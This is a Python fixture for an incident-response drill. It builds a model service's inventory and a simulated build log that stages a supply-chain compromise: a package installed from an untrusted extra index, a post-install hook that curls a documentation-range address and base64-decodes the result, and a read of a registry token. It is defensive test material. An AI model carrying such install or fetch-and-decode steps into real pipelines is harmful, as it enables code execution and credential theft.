"""What the operators of the drill's installation have written: inventory, argument list, log."""

import sys
from pathlib import Path
from typing import Any

import yaml

from firebreak.drill.sample_model import label_shares

MODEL = "sentiment"
EARLIER, DEPLOYED = "1.0.0", "1.1.0"
SERVER = "firebreak.drill.model_server"
HOST = "127.0.0.1"
DRIFT_WINDOW = 240  # newest answers that are compared: whole rounds of the sample texts
INVENTORY_HEAD = "# Made by the drill. Relative paths are relative to this file.\n"


def server_argv(port: int) -> list[str]:
    """How the service is started, with the world's folder as working directory."""
    return [
        *(sys.executable, "-m", SERVER, "--model", f"models/{MODEL}", "--port", str(port)),
        *("--pid-file", f"run/{MODEL}.pid", "--outputs", "outputs/predictions.jsonl"),
    ]


def inventory_text(port: int, webhook_url: str, secret_file: Path) -> str:
    """`firebreak.yaml` of the installation.

    Args:
        port: of the service on loopback.
        webhook_url: where messages are posted.
        secret_file: absolute path of the webhook's secret, without white space.
    """
    settings = {
        "firebreak": 1,
        "respond": "automatic",
        "check_interval": "10s",
        "keys": {"cosign": "keys/cosign.pub"},
        "models": [_model(port)],
        "people": [
            {"id": "ana", "name": "Ana Ruiz", "roles": ["incident-commander", "ml-oncall"]},
            {"id": "ben", "name": "Ben Okafor", "roles": ["security-lead"]},
            {"id": "chloe", "name": "Chloe Martin", "roles": ["ml-oncall"]},
        ],
        "channels": [
            {"id": "messages", "kind": "file", "path": "messages"},
            {
                "id": "on-call",
                "kind": "webhook",
                "url": webhook_url,
                "secret": f"file:{secret_file}",
                "timeout": "5s",
            },
        ],
    }
    return INVENTORY_HEAD + yaml.safe_dump(settings, sort_keys=False, width=1000)


def _model(port: int) -> dict[str, Any]:
    served = {
        "uri": f"process://run/{MODEL}.pid",
        "start": server_argv(port),
        "cwd": ".",
        "probe": f"http://{HOST}:{port}/health",
    }
    return {
        "id": MODEL,
        "version": DEPLOYED,
        "critical": True,
        "owner": "ml-platform",
        "path": f"models/{MODEL}",
        "archive": f"archive/{MODEL}",
        "reference": f"archive/{MODEL}/{DEPLOYED}",
        "targets": [served, f"file://models/{MODEL}"],
        "behavior": {
            "outputs": "outputs/predictions.jsonl",
            "baseline": label_shares(),
            "window": DRIFT_WINDOW,
        },
        "pipeline_logs": ["logs/pipeline.log"],
        "secrets": ["model-registry-token", "inference-api-key", "build-pipeline-secret"],
    }


# Inert text. The addresses are of example.invalid and of RFC 5737's documentation block.
PIPELINE_LOG = """\
2026-02-03T08:00:01Z INFO  build 412 started by scheduler, commit 5f2c9e1
2026-02-03T08:00:04Z INFO  restored cache model-build-3.11 (412 MiB)
2026-02-03T08:00:09Z INFO  running step prepare
2026-02-03T08:00:11Z INFO  dataset reviews-2026-01 verified, 48210 rows
2026-02-03T08:00:12Z INFO  running step dependencies
2026-02-03T08:00:13Z INFO  pip install --extra-index-url http://packages.example.invalid tokenz
2026-02-03T08:00:19Z INFO  running step export
2026-02-03T08:00:26Z INFO  wrote model.safetensors (64 MiB), metrics accuracy=0.941
2026-02-03T08:00:27Z WARN  post-install hook: curl -s http://192.0.2.17/u | base64 -d
2026-02-03T08:00:28Z WARN  environment read: REGISTRY_TOKEN=[masked]
2026-02-03T08:00:31Z INFO  running step sign
2026-02-03T08:00:32Z INFO  manifest signed, 4 files
2026-02-03T08:00:40Z INFO  published sentiment 1.1.0
2026-02-03T08:00:41Z INFO  build 412 finished in 40 s
"""
